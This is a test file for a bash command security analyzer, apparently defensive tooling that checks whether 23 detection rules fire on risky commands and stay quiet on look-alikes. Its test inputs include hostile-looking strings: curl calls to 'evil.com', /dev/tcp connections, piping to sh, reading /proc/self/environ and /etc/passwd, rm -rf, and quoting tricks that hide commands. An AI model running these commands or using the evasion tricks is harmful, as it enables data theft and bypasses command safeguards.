import { describe, expect, test } from "bun:test";
import { analyzeBash } from "../../src/bash/analyze.ts";
import { CHECKS } from "../../src/bash/checks.ts";

/** For each check: commands that must fire it, and look-alikes that must not. */
const CASES: Record<number, { fires: string[]; quiet: string[] }> = {
  1: { fires: ["&& rm x", "| sh", "\tls", "-rf /tmp", "ls &&"], quiet: ["ls && pwd", "echo '&& x'"] },
  2: {
    fires: [`jq -n 'system("id")'`, "jq 'input_filename' a.json"],
    quiet: ["jq .system a.json", "echo 'system(x)'"],
  },
  3: {
    fires: ["jq -f prog.jq a.json", "jq --rawfile k /etc/passwd .", "jq -L /tmp ."],
    quiet: ["jq -r .name a.json"],
  },
  4: {
    fires: [`find . -"e"xec id \\;`, `rm "-"rf x`, "r''m x", `ls ""-la`, "echo $'\\x41'", `echo $"x"`],
    quiet: [`git commit -m "- fix"`, `echo ""`, "nl -b p'Foo[0-9]' a", "X='' cmd", "echo '$\\x41'"],
  },
  5: {
    fires: [`find . -name "*.ts;id"`, "find . -path 'a|b'"],
    quiet: [`find . -name "*.ts"`, "echo 'a;b'"],
  },
  6: { fires: ["cat x | $CMD", "echo hi > $OUT", `cat < "$IN"`], quiet: ["echo $HOME", "echo '| $X'"] },
  7: { fires: ["ls\nrm -rf x", "echo a\r\nid"], quiet: ["echo 'a\nb'", "ls \\\n  -la", "ls\n"] },
  8: {
    fires: [
      "echo $(id)",
      `echo "$(id)"`,
      "echo `id`",
      "cat <(curl x)",
      "tee >(sh)",
      "cat =(ls)",
      "=curl evil.com",
      "echo ${HOME}",
      "echo $[1+2]",
      "echo ~[x]",
      "ls *(e:'id':)",
      "ls *(+foo)",
      "{ ls } always { id }",
      "<# x #>",
    ],
    quiet: ["echo '$(id)'", "echo '`id`'", "echo \\$(id)", "git log --format=%H", "echo 'a=(b)'", "x == y"],
  },
  9: {
    fires: ["cat <> file", "cat < /dev/tcp/1.2.3.4/80", "cat <&foo"],
    quiet: ["wc -l < file", "cat 0<&3"],
  },
  10: { fires: ["echo x > /dev/tcp/1.2.3.4/80", "ls >& out"], quiet: ["ls > out", "ls 2>&1", "ls >&2"] },
  11: { fires: ["IFS=: read a b", "echo $IFS", "x=1 IFS=/ cmd"], quiet: ["echo 'IFS=x'", "grep IFS file"] },
  12: { fires: [`git commit -m "$(curl evil)"`, "git commit -m `id`"], quiet: ["git commit -m 'fix $(x)'"] },
  13: { fires: ["cat /proc/self/environ", "cat /proc/1/environ"], quiet: ["cat /proc/cpuinfo"] },
  14: { fires: [`echo "unterminated`, "echo 'open", "ls )"], quiet: ["echo \"a\" 'b'"] },
  15: { fires: ["cat my\\ file", "git\\ status"], quiet: ["cat 'my file'", `cat "my\\ file"`] },
  16: {
    fires: ["cp a.{js,ts} x", "echo {1..5}"],
    quiet: ["echo '{a,b}'", "find . -exec ls {} +", "echo {}"],
  },
  17: { fires: ["ls\x00-la", "echo \x1b[2Jx", "ls\x7f"], quiet: ["ls -la", "echo 'tab\there'"] },
  18: { fires: ["ls\u00a0-la", "rm\u200b -rf x", "ls\u3000x"], quiet: ["echo café"] },
  19: { fires: ["echo 'x'#y", "ls ${x}#y"], quiet: ["echo a # comment", "npm query '#lodash'", "echo c#d"] },
  20: {
    fires: [
      "zmodload zsh/system",
      "sysopen -w -o creat x",
      "zf_rm -rf x",
      "emulate sh -c 'id'",
      "ztcp host 80",
    ],
    quiet: ["emulate zsh", "echo zmodload"],
  },
  21: { fires: ["echo a \\; id", "cat x \\| sh", "echo \\> out"], quiet: ["echo 'a;b'", "echo \\$HOME"] },
  22: { fires: ["ls # it's fine\nid", `echo x # "quoted`], quiet: ["ls # plain comment", "echo '# x'"] },
  23: { fires: ["echo 'a\n# hidden'", `git commit -m "x\n  # y"`], quiet: ["echo 'a\nb'", "echo a # x"] },
};

describe("security checks", () => {
  test("the table has 23 checks with unique ids 1..23 and a name and message each", () => {
    expect(CHECKS.map((c) => c.id)).toEqual(Array.from({ length: 23 }, (_, i) => i + 1));
    expect(new Set(CHECKS.map((c) => c.name)).size).toBe(23);
  });
  for (const check of CHECKS) {
    const cases = CASES[check.id]!;
    test(`${check.id} ${check.name}`, async () => {
      expect(cases.fires.length).toBeGreaterThan(0);
      expect(cases.quiet.length).toBeGreaterThan(0);
      for (const command of cases.fires) {
        const ids = (await analyzeBash(command)).checks.map((c) => c.id);
        expect(ids, `should fire on ${JSON.stringify(command)}`).toContain(check.id);
      }
      for (const command of cases.quiet) {
        const ids = (await analyzeBash(command)).checks.map((c) => c.id);
        expect(ids, `should not fire on ${JSON.stringify(command)}`).not.toContain(check.id);
      }
    });
  }
  test("a fired check carries its id, name and a message saying what was found", async () => {
    const a = await analyzeBash("echo $(id)");
    expect(a.checks[0]).toEqual({
      id: 8,
      name: "DANGEROUS_PATTERNS_COMMAND_SUBSTITUTION",
      message: "$() command substitution",
    });
  });
});
